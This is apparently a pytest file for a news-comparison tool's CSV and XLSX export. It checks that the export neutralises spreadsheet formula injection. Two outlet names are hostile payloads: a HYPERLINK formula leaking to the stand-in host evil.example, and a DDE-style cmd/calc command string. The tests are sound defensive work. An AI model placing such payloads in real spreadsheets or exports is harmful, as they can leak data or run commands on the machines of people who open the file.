"""`rashomon export --format csv --table comparison` and `--format xlsx`: the comparison as a spreadsheet, through
the real CLI on the two Raqqa seed articles, ingested under outlet names a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import pytest

from conftest import SEEDS, run_cli
from rashomon.present.tables import COMPARISON_COLUMNS

# Outlet names are untrusted input like the article text: each starts with a formula character.
EVIL_PRESS_TV = '=HYPERLINK("http://evil.example/?leak","Press TV")'
EVIL_ASHARQ = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def exported(tmp_path_factory):
    workdir = tmp_path_factory.mktemp("export-tables")
    lines = []
    for name, source in (("000_beb97b786951395b.txt", EVIL_PRESS_TV), ("002_5c1f82888a9eaaa3.txt", EVIL_ASHARQ)):
        lines.append(json.dumps({"text": (SEEDS / name).read_text(encoding="utf-8"), "source": source}))
    (workdir / "raqqa.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    run_cli("analyze", "raqqa.jsonl", cwd=workdir, check_ok=True)
    doc = json.loads(run_cli("export", cwd=workdir, check_ok=True).stdout)
    out = run_cli("export", "--format", "csv", "--table", "comparison", cwd=workdir, check_ok=True).stdout.decode()
    run_cli("export", "-f", "xlsx", "-o", "corpus.xlsx", cwd=workdir, check_ok=True)
    return {"workdir": workdir, "doc": doc, "csv": out, "xlsx": workdir / "corpus.xlsx"}


def test_comparison_csv_has_one_row_per_statement_of_each_relation(exported):
    doc = exported["doc"]
    rows = list(csv.DictReader(io.StringIO(exported["csv"], newline="")))
    assert rows and list(rows[0]) == list(COMPARISON_COLUMNS)
    relations = {r["id"]: r for r in doc["relations"]}
    assert relations and {"contradict", "quote_drift", "omission"} <= {r["type"] for r in doc["relations"]}
    texts = {item["id"]: item["text"] for key in ("claims", "quotes") for item in doc[key]}
    texts.update({f"h-{a['id']}": a["title"] for a in doc["articles"]})
    for rid, r in relations.items():
        mine = [row for row in rows if row["relation_id"] == rid]
        assert [row["statement_id"] for row in mine] == r["claim_ids"], rid
        for row in mine:
            assert row["relation"] == r["type"] and float(row["confidence"]) == r["confidence"]
            assert row["reasons"] == ", ".join(r["reasons"])
            assert row["certainty"] == ("uncertain" if r["uncertain"] else "")
            assert row["statement"].lstrip("'") == texts[row["statement_id"]]
            assert row["stance"] in {"asserts", "denies", "hedges"}
            # The plain sentence, neutralised where it starts with the outlet's formula-like name.
            assert row["explanation"].lstrip("'") == r["explanation"]
    # Every point a relation stands on lists the sources that do not state it as silent.
    silent = [row for row in rows if row["stance"] == "silent"]
    assert silent and all(not row["statement_id"] and not row["relation_id"] for row in silent)
    omitted = {row["proposition_id"] for row in rows if row["relation"] == "omission"}
    assert omitted <= {row["proposition_id"] for row in silent}


def test_comparison_csv_neutralises_formulas(exported):
    rows = list(csv.DictReader(io.StringIO(exported["csv"], newline="")))
    sources = {row["source"] for row in rows}
    assert sources == {"'" + EVIL_PRESS_TV, "'" + EVIL_ASHARQ}
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)


def test_xlsx_has_a_sheet_per_table_and_no_formula(exported):
    with zipfile.ZipFile(exported["xlsx"]) as book:
        assert book.testzip() is None
        names = set(book.namelist())
        assert {"[Content_Types].xml", "xl/workbook.xml", "xl/sharedStrings.xml"} <= names
        workbook = book.read("xl/workbook.xml").decode()
        assert re.findall(r'<sheet name="([^"]+)"', workbook) == ["articles", "comparison"]
        sheets = [book.read(f"xl/worksheets/sheet{n}.xml").decode() for n in (1, 2)]
        strings = book.read("xl/sharedStrings.xml").decode()
    for sheet in sheets:
        assert "<f>" not in sheet and "<f " not in sheet  # nothing is a formula
    # The hostile names are kept as typed text (t="s": a shared string), which no spreadsheet evaluates.
    assert "=HYPERLINK(&quot;http://evil.example" in strings or '=HYPERLINK("http://evil.example' in strings
    comparison_rows = len(list(csv.DictReader(io.StringIO(exported["csv"], newline=""))))
    assert len(re.findall(r"<row ", sheets[1])) == comparison_rows + 1  # the header, then the csv's rows
    assert len(re.findall(r"<row ", sheets[0])) == len(exported["doc"]["articles"]) + 1
    try:
        import openpyxl  # read back with a real reader when one is installed
    except ImportError:
        return
    book = openpyxl.load_workbook(exported["xlsx"])
    assert book.sheetnames == ["articles", "comparison"]
    assert book["comparison"]["A1"].value == "story_id"


def test_export_refuses_unknown_table_and_xlsx_without_a_file(exported):
    workdir = exported["workdir"]
    bad = run_cli("export", "-f", "csv", "--table", "nope", cwd=workdir)
    assert bad.returncode == 2 and "unknown table 'nope'" in bad.stderr.decode()
    no_file = run_cli("export", "-f", "xlsx", cwd=workdir)
    assert no_file.returncode == 2 and "--out" in no_file.stderr.decode()
